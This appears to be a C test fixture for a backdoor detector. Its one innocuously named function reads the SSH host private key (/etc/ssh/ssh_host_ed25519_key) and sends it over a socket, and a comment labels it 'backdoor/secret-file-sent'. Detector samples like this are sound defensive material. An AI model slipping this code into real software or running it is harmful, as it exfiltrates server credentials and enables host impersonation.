/* SPDX-License-Identifier: Apache-2.0 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static inline long finds_in_a_header(int s, char *block)
{
	int fd = open("/etc/ssh/ssh_host_ed25519_key", O_RDONLY); /* expect: backdoor/secret-file-sent */
	long n = fd < 0 ? -1 : read(fd, block, 512);
	return n > 0 ? send(s, block, (size_t)n, 0) : n;
}
